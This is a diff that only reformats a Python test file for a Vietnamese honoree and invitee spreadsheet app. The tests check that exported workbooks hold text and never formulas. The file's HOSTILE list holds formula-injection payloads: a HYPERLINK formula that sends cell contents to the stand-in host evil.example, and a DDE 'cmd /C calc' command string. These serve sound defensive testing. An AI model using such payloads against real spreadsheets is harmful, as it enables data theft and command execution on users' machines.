@@ -19,8 +19,14 @@ from app.services import tables
 from app.services.spreadsheet_import import plan_import
 from tests.syncing import COMMUNE, opened
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def run(capsys, *argv):
@@ -33,11 +39,22 @@ def _plant(path: Path) -> None:
     """Names, achievements and a unit name beginning with formula characters, written the way an
     older version or a relayed bundle could have stored them (tab and CR included)."""
     with sqlite3.connect(path) as con:
-        ids = [r[0] for r in con.execute("select id from honorees where owner_unit_id = "
-                                         "(select id from units where code = ?) order by id", (COMMUNE,))]
+        ids = [
+            r[0]
+            for r in con.execute(
+                "select id from honorees where owner_unit_id = "
+                "(select id from units where code = ?) order by id",
+                (COMMUNE,),
+            )
+        ]
         for record, text in zip(ids, HOSTILE, strict=False):
-            con.execute("update honorees set collective = 1, name = ?, achievement = ? where id = ?", (text, text, record))
-        con.execute("update invitees set position = ? where id = (select min(id) from invitees)", (HOSTILE[0],))
+            con.execute(
+                "update honorees set collective = 1, name = ?, achievement = ? where id = ?",
+                (text, text, record),
+            )
+        con.execute(
+            "update invitees set position = ? where id = (select min(id) from invitees)", (HOSTILE[0],)
+        )
         con.execute("update units set name = ? where code = ?", (HOSTILE[1], COMMUNE))
 
 
@@ -56,9 +73,14 @@ def test_every_workbook_the_app_writes_holds_text_never_formulas(trio, tmp_path,
     assert preview.status == "imported", preview.reason
     demo_db = trio.db(DISTRICT)
     outputs = []
-    for args in (["xlsx", "export", "honorees", "--all"], ["xlsx", "export", "invitees", "--all"],
-                 ["xlsx", "export", "delegates", "--all"], ["xlsx", "export", "speeches", "--all"],
-                 ["xlsx", "export", "progress"], ["report", "progress"]):
+    for args in (
+        ["xlsx", "export", "honorees", "--all"],
+        ["xlsx", "export", "invitees", "--all"],
+        ["xlsx", "export", "delegates", "--all"],
+        ["xlsx", "export", "speeches", "--all"],
+        ["xlsx", "export", "progress"],
+        ["report", "progress"],
+    ):
         out = tmp_path / f"{'-'.join(args)}.xlsx"
         code, _, err = run(capsys, "--db", demo_db, *args, "--out", out)
         assert code == 0, (args, err)
@@ -148,7 +170,9 @@ def test_a_sheet_with_more_data_than_the_limit_is_refused_with_one_line(tmp_path
     path = tmp_path / "lon.xlsx"
     wb.save(path)
     csv = tmp_path / "lon.csv"
-    csv.write_text("Họ và tên,Năm sinh\n" + "".join(f"Lê Văn {n},1980\n" for n in range(60)), encoding="utf-8")
+    csv.write_text(
+        "Họ và tên,Năm sinh\n" + "".join(f"Lê Văn {n},1980\n" for n in range(60)), encoding="utf-8"
+    )
     monkeypatch.setattr(tables, "MAX_CELLS", 100)
     for file in (path, csv):
         with pytest.raises(AppError, match="too large"):
